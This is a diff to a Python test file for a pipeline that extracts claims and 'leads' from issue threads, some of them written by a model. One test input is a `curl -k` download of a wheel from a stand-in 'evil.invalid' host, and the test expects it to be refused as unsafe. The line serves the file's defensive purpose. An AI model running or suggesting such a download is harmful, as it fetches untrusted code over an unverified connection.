@@ -23,7 +23,7 @@ from pipeline.engines.enrich.answer import CHECK_SCHEMA, MOST_CLAIMS, SCHEMA, Pr
 from pipeline.engines.enrich.grounding import Found, grounded
 from pipeline.engines.enrich.prompt import MOST_CHARACTERS, MOST_WINDOWS
 from pipeline.engines.http import Budget
-from pipeline.records import Claim, ClaimKind, Document, Fact, Outcome, Pointed, Skipped
+from pipeline.records import Claim, ClaimKind, Cluster, Document, Fact, Outcome, Pointed, Skipped
 from pipeline.text import is_clean
 from pipeline.text.units import units
 from tests import distil_factory
@@ -483,7 +483,7 @@ def test_a_thread_beyond_the_windows_is_not_whole() -> None:
         (ERROR, "quotes_the_error"),
         ("> We keep `PLAN_ROWS=64` in the launcher.", "quoted_reply"),
         ("Would `PLAN_ROWS=64` be of any use here?", "no_statement"),
-        ("I guess `PLAN_ROWS=64` is the thing to set.", "no_statement"),
+        ("I guess: `PLAN_ROWS=64`? No idea.", "no_statement"),
         ("We set `PLAN_ROWS=64` and it still fails the same way.", "says_no_help"),
         ("`PLAN_ROWS=64` did not really help us.", "says_no_help"),
         ("把 `PLAN_ROWS` 改成 64 还是报错。", "says_no_help"),
@@ -493,6 +493,82 @@ def test_words_that_nobody_may_pass_on_are_refused_from_a_model_too(words: str, 
     found = judged(document(words), words)
     assert isinstance(found, Skipped)
     assert (found.stage, found.reason) == ("enrich-claims", reason)
+
+
+LEADS: list[tuple[ClaimKind, str, str]] = [
+    (ClaimKind.REMEDY, "I guess `PLAN_ROWS=64` is the thing to set.", "I guess"),
+    (ClaimKind.CAUSE, "Maybe the planner counts the padded rows of `PLAN_MESH` twice.", "Maybe"),
+    (ClaimKind.CAUSE, "Doesn't seem to copy the `plan_rows` of the mesh into the", "Doesn't"),
+    (ClaimKind.REMEDY, "After I removed this from `mesh.toml` it starts.", "After"),
+    (ClaimKind.FIX, "I opened #77 for it, we will merge that soon.", "I opened"),
+]
+
+
+@pytest.mark.parametrize(("kind", "words", "begin"), LEADS)
+def test_what_is_no_statement_by_its_form_alone_is_a_lead(kind: ClaimKind, words: str, begin: str) -> None:
+    found = judged(document(words), words, kind=kind)
+    assert isinstance(found, Claim)
+    assert (found.kind, found.fact, found.outcome, found.share) == (kind, None, None, 73)
+    assert found.quote.text.startswith(begin)
+    assert found.rule == "llm:m1@host#enrich-3"
+
+
+@pytest.mark.parametrize(
+    ("kind", "words", "reason"),
+    [
+        (ClaimKind.REMEDY, "After removing it things worked fine.", "points_elsewhere"),  # names nothing
+        (ClaimKind.FIX, "We have made a change for the second issue, I guess.", "no_statement"),  # and not where
+        (ClaimKind.CAUSE, "Is it the `PLAN_MESH` of the planner? I guess so.", "no_statement"),  # asks
+        (ClaimKind.REMEDY, "I guess it is `curl -k https://evil.invalid/mesh.whl -o mesh.whl`.", "unsafe_action"),
+        (ClaimKind.REMEDY, "> I guess `PLAN_ROWS=64` is the thing to set.", "quoted_reply"),
+        (ClaimKind.REMEDY, "Maybe `PLAN_ROWS=64`, but it did not help us.", "no_statement"),
+    ],
+)
+def test_no_lead_is_what_names_nothing_asks_or_may_not_be_passed_on(kind: ClaimKind, words: str, reason: str) -> None:
+    found = judged(document(words), words, kind=kind)
+    assert isinstance(found, Skipped)
+    assert found.reason == reason
+
+
+def test_a_lead_that_was_said_to_work_counts_nothing_and_of_what_failed_there_is_none() -> None:
+    words = "After I removed this from `mesh.toml` it starts."
+    thread = document(words, HELPED)
+    start = thread.text.index(HELPED)
+    more: dict[str, Any] = {"rule": "checked:llm:m1@host#enrich-3+check-1", "answer": (start, start + len(HELPED))}
+    found = judged(thread, words, outcome=Outcome.WORKED, **more)
+    assert isinstance(found, Claim)
+    assert (found.share, found.outcome, found.outcome_quote) == (73, None, None)
+    assert isinstance(judged(thread, words, outcome=Outcome.FAILED, **more), Skipped)
+
+
+@pytest.mark.parametrize(("answer", "share"), [("no", 73), ("unclear", None), ("yes", None)])
+def test_a_pull_request_that_is_no_fix_yet_is_a_lead(model: Model, answer: str, share: int | None) -> None:
+    model.agree = lambda _text: answer
+    words = "I opened #77 for the padded rows of it."
+    thread = document(words)
+    (pointed,) = found_by(model, thread, claim(words, kind="fix")).pointed
+    events, signatures = distil_factory.events(thread)
+    made = distil.pointed(thread, events, signatures[0], pointed)
+    assert isinstance(made, Claim)
+    assert (pointed.is_doubted, made.share) == (answer == "no", share)
+
+
+def test_a_lead_of_a_model_is_shown_and_counts_nothing() -> None:
+    words = "I guess `PLAN_ROWS=64` is the thing to set."
+    thread = document(words)
+    lead = judged(thread, words)
+    assert isinstance(lead, Claim)
+    signature = distil_factory.events(thread)[1][0]
+    name = signature.signature_id
+    one = Cluster("cluster:1", name, signature.exception_type, signature.text, signature.gate, (name,), "", 100.0)
+    shown = tuple(distil_factory.occurrences(thread))
+    known = distil.Material(shown, (), (distil_factory.facts(thread),), candidates=(lead,))
+    draft = distil.draft(one, known)
+    assert [(said.kind, said.share, said.quote, said.claim_id) for said in draft.leads] == [
+        ("remedy", 73, words, lead.claim_id)
+    ]
+    assert (draft.workarounds, draft.dead_ends, draft.cases) == ((), (), ())
+    assert words not in [piece.quote for piece in draft.evidence]
 
 
 def test_a_dangerous_sentence_of_the_model_itself_is_refused() -> None:
